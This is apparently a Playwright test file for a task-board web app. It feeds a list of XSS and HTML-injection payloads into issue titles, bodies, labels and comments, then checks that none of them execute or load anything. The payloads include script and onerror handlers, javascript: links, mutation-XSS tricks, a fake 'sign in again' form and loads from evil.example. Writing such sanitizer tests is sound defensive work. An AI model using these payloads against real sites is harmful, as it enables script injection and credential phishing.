// What hostile words do to the board: nothing. Every field that comes from a tracker tries to run, load, style and pretend;
// and every view is read by axe, light and dark.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { type BoardRoom, createBoardRoom, makeConflict } from './board-room.ts';
import { findChromium, openBoard, openBrowser, type WatchedPage } from './browser.ts';

const HAS_CHROMIUM = findChromium() !== null;
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const EVIL = 'http://evil.example';

/** Each touches the probe or asks elsewhere when it gets its way. */
const ATTACKS = [
  '<script>window.probe = 1</script>',
  `<img src=x onerror="window.probe = 2">`,
  `<img src="${EVIL}/pixel.png">`,
  `![seen](${EVIL}/pixel.png)`,
  '<svg onload="window.probe = 3"><script>window.probe = 3</script></svg>',
  '[click](javascript:window.probe=4)',
  '[click](data:text/html,<script>window.probe=5</script>)',
  `<a href="javascript:window.probe=6">click</a>`,
  `<style>body { display: none } @import "${EVIL}/x.css";</style>`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<form action="${EVIL}"><input name="token"><button>Sign in again</button></form>`,
  `<div class="banner failed" style="position:fixed;inset:0;z-index:99" id="app">This session is over</div>`,
  `<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.probe=7"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=window.probe=8>"></noscript>`,
  `<details open ontoggle="window.probe=9"><summary>x</summary></details>`,
  `<!--><img src=x onerror="window.probe=10">-->`,
].join('\n\n');
const SHORT = `"><img src=x onerror="window.probe=11"><b>`;

interface Listed {
  id: string | null;
  title: string | null;
  name: string;
}

describe.skipIf(!HAS_CHROMIUM)('the board, shown hostile words', () => {
  let board: BoardRoom;
  let browser: Browser;
  let watched: WatchedPage;
  let page: Page;

  beforeAll(async () => {
    board = await createBoardRoom();
    browser = await openBrowser();
    watched = await openBoard(browser, await board.link());
    page = watched.page;
    page.setDefaultTimeout(30_000);
  }, 240_000);

  afterAll(async () => {
    await browser?.close();
    await board?.close();
  }, 60_000);

  const go = (place: string) => page.goto(`${board.url()}/#/${place}`);
  const probe = () => page.evaluate('window.probe');

  test('no field of a tracker runs, loads, styles or pretends anything', async () => {
    const { mirror } = board;
    const { room } = mirror;
    const title = `Hostile ${SHORT}`;
    const number = mirror.open(title, {
      body: ATTACKS,
      labels: [SHORT, 'x" onmouseover="window.probe=12'],
    });
    mirror.say(number, `mallory ${SHORT}`, ATTACKS);
    await room.ok('sync', 'web');
    room.save(
      'tasks/By hand.md',
      `---\nstatus: draft\nowner: ${JSON.stringify(SHORT)}\nsprint: ${JSON.stringify(SHORT)}\nscope: x\nactive_form: ${JSON.stringify(SHORT)}\n---\n${ATTACKS}\n`,
    );
    // The daemon gives what was saved by hand its id.
    const hostile = await vi.waitUntil(
      async () => {
        const { tasks } = (await room.json('list')) as { tasks: Listed[] };
        const found = tasks.filter(({ title: said, name }) => said === title || name === 'By hand');
        return found.length === 2 && found.every(({ id }) => id !== null) ? found : null;
      },
      { timeout: 30_000, interval: 200 },
    );
    for (const { id } of hostile) {
      await go(`task/${id}`);
      await page.locator('.markdown').first().waitFor();
      expect(
        await page
          .locator(
            '.markdown :is(img, script, style, iframe, form, input, video, svg, [style], [class], [id])',
          )
          .count(),
      ).toBe(0);
      expect(await page.locator('.markdown a:not([rel*="noopener"])[href]').count()).toBe(0);
      expect(await page.locator('.markdown a[href^="javascript"], .markdown a[href^="data"]').count()).toBe(
        0,
      );
      await page.getByRole('heading', { level: 1 }).waitFor();
      for (const link of await page.locator('.markdown a[href]').all())
        expect(await link.textContent()).toContain(new URL((await link.getAttribute('href'))!).host);
    }
    for (const view of ['', 'board', 'list', 'mirrors', 'history', 'agents', 'figures']) {
      await go(view);
      await page.locator('main h1').waitFor();
      expect(await probe()).toBe(0);
    }
    await go('list');
    await page.getByRole('link', { name: 'Hostile' }).waitFor();
    expect(await probe()).toBe(0);
    expect(watched.faults).toEqual([]);
  });

  test('a tool of accessibility finds nothing in any view, light or dark', async () => {
    await makeConflict(board);
    const { id } = await board.mirror.room.json('show', 'Refuse repeated orders');
    const { turns } = await board.mirror.room.json('turns');
    const views = [
      '',
      'board',
      'list',
      'agents',
      'chores',
      'mirrors',
      'figures',
      'history',
      `task/${id}`,
      `turn/${turns[0].id}`,
    ];
    await page.context().setOffline(false);
    const found: string[] = [];
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      for (const view of views) {
        await go(view);
        await page.locator('main h1').waitFor();
        await page.evaluate(AXE);
        const violations = (await page.evaluate(
          'axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => violations.map(({ id, nodes }) => id + " " + nodes.slice(0, 3).map(({ html }) => html.slice(0, 160)).join(" | ")))',
        )) as string[];
        found.push(...violations.map((each) => `${colorScheme} /${view}: ${each}`));
      }
    }
    expect(found).toEqual([]);
  });
});
